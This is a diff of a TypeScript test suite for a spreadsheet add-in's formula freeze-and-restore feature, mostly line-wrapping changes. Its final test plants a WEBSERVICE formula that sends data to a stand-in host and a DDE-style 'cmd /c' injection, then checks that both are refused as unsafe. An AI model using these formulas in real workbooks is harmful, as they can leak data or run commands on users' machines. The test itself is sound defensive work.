@@ -13,7 +13,8 @@ const book = { kind: "book" } as const;
 const note = freezeNote({ when: "2026-02-01", version: "1.2.3" });
 
 const reasons = (left: readonly FreezeLeft[]): string[][] => left.map(({ address, reason }) => [address, reason]).sort();
-const formulasOf = async (host: Host): Promise<string[][]> => [...(await host.formulas(query))].map(({ address, formula, spill }) => [address, formula, spill ?? ""]).sort();
+const formulasOf = async (host: Host): Promise<string[][]> =>
+  [...(await host.formulas(query))].map(({ address, formula, spill }) => [address, formula, spill ?? ""]).sort();
 
 export function describeFreezing(current: () => HostUnderTest): void {
   describe("freezing", () => {
@@ -33,9 +34,11 @@ export function describeFreezing(current: () => HostUnderTest): void {
       expect((await host.freeze(query)).cells).toBe(1);
       expect(await host.frozen()).toEqual({ cells: 4, interrupted: false, damaged: false });
       expect(await host.restore(book)).toMatchObject({ outcome: "done", cells: 4, left: [] });
-      expect(await formulasOf(host)).toEqual(formulas.map(([at, formula, spill]) => (at === "Sheet1!B1" ? [at, "=FAKE.COST(A1,3)", spill] : [at, formula, spill])));
+      expect(await formulasOf(host)).toEqual(
+        formulas.map(([at, formula, spill]) => (at === "Sheet1!B1" ? [at, "=FAKE.COST(A1,3)", spill] : [at, formula, spill])),
+      );
       await host.recalculate();
-      expect((await host.read("Sheet1!D1:F3"))).toEqual(before.map((row) => row.slice(3)));
+      expect(await host.read("Sheet1!D1:F3")).toEqual(before.map((row) => row.slice(3)));
       expect(await host.parts.get(FROZEN_NAMESPACE)).toBeNull();
     });
     test("formulas of others stay formulas and keep their values", async () => {
@@ -61,7 +64,10 @@ export function describeFreezing(current: () => HostUnderTest): void {
       await host.write("Sheet1!E2", [["checked"]]);
       const result = await host.restore(book);
       expect([result.cells, reasons(result.left)]).toEqual([3, [["Sheet1!D1", "changed"]]]);
-      expect(await host.read("Sheet1!D1:F2")).toEqual([["25070080", "Kaolin", 10], ["01", "checked", 20]]);
+      expect(await host.read("Sheet1!D1:F2")).toEqual([
+        ["25070080", "Kaolin", 10],
+        ["01", "checked", 20],
+      ]);
       await host.write("Sheet1!E2", [["TRUE"]]);
       expect(await host.restore(book)).toMatchObject({ cells: 1, left: [] });
     });
@@ -77,7 +83,14 @@ export function describeFreezing(current: () => HostUnderTest): void {
       const result = await host.freeze(query, { note });
       expect(result.note).toBe("Formulas as values");
       const lines = await host.cells("'Formulas as values'!A1:C14");
-      expect(lines.values.map(([first]) => first)).toEqual(expect.arrayContaining(["Formulas turned into values", "Turned into values: 2026-02-01", "Add-in version: 1.2.3", "Formulas turned into values: 5"]));
+      expect(lines.values.map(([first]) => first)).toEqual(
+        expect.arrayContaining([
+          "Formulas turned into values",
+          "Turned into values: 2026-02-01",
+          "Add-in version: 1.2.3",
+          "Formulas turned into values: 5",
+        ]),
+      );
       expect(lines.values.map((line) => line[2])).toEqual(expect.arrayContaining(["=FAKE.COST(A1,2.5)", "=FAKE.CODES()"]));
       expect(lines.formulas.flat().every((formula) => formula === "")).toBe(true);
       expect(await host.sheets()).toEqual(["Sheet1", "Formulas as values"]);
@@ -129,7 +142,10 @@ export function describeFreezing(current: () => HostUnderTest): void {
       await host.parts.set(FROZEN_NAMESPACE, ((await host.parts.get(FROZEN_NAMESPACE)) ?? "").replace('sheet="Other"', 'sheet="Away"'));
       await host.write("Sheet1!B2", [[null]]);
       const result = await host.restore(book);
-      expect(reasons(result.left)).toEqual([["Away!A1", "sheetGone"], ["Sheet1!B2", "changed"]]);
+      expect(reasons(result.left)).toEqual([
+        ["Away!A1", "sheetGone"],
+        ["Sheet1!B2", "changed"],
+      ]);
       expect(await host.read("Other!A1")).toEqual([[12]]);
       expect(await host.frozen()).toMatchObject({ cells: 2 });
     });
@@ -153,7 +169,10 @@ export function describeFreezing(current: () => HostUnderTest): void {
       expect(await host.frozen()).toMatchObject({ cells: 10 });
     });
     test("a damaged record is said to be damaged, and nothing is written", async () => {
-      await host.parts.set(FROZEN_NAMESPACE, `<frozenFormulas xmlns="${FROZEN_NAMESPACE}"><formula sheet="Sheet1" area="ZZZZ1" kind="plain" readable="=1"/></frozenFormulas>`);
+      await host.parts.set(
+        FROZEN_NAMESPACE,
+        `<frozenFormulas xmlns="${FROZEN_NAMESPACE}"><formula sheet="Sheet1" area="ZZZZ1" kind="plain" readable="=1"/></frozenFormulas>`,
+      );
       const before = await formulasOf(host);
       expect(await host.frozen()).toEqual({ cells: 0, interrupted: false, damaged: true });
       expect(await host.freeze(query)).toMatchObject({ outcome: "refused", refusal: "damagedRecord" });
@@ -161,8 +180,12 @@ export function describeFreezing(current: () => HostUnderTest): void {
       expect(await formulasOf(host)).toEqual(before);
     });
     test("a record from a stranger enters nothing that reaches out or is not ours", async () => {
-      const cell = (at: string, formula: string): string => `<formula sheet="Sheet1" area="${at}" kind="plain" readable="${formula}" type="number" value="10"/>`;
-      await host.parts.set(FROZEN_NAMESPACE, `<frozenFormulas xmlns="${FROZEN_NAMESPACE}">${cell("A1", "=WEBSERVICE(&quot;http://x/&quot;&amp;FAKE.COST(1,2))")}${cell("A1", "=1+9")}${cell("A1", "=FAKE.COST(cmd|' /c calc'!A0,1)")}</frozenFormulas>`);
+      const cell = (at: string, formula: string): string =>
+        `<formula sheet="Sheet1" area="${at}" kind="plain" readable="${formula}" type="number" value="10"/>`;
+      await host.parts.set(
+        FROZEN_NAMESPACE,
+        `<frozenFormulas xmlns="${FROZEN_NAMESPACE}">${cell("A1", "=WEBSERVICE(&quot;http://x/&quot;&amp;FAKE.COST(1,2))")}${cell("A1", "=1+9")}${cell("A1", "=FAKE.COST(cmd|' /c calc'!A0,1)")}</frozenFormulas>`,
+      );
       const result = await host.restore(book, { prefixes });
       expect([result.cells, result.left.map(({ reason }) => reason)]).toEqual([0, ["unsafe", "unsafe", "unsafe"]]);
       expect(await host.cells("Sheet1!A1")).toEqual({ values: [[10]], formulas: [[""]] });
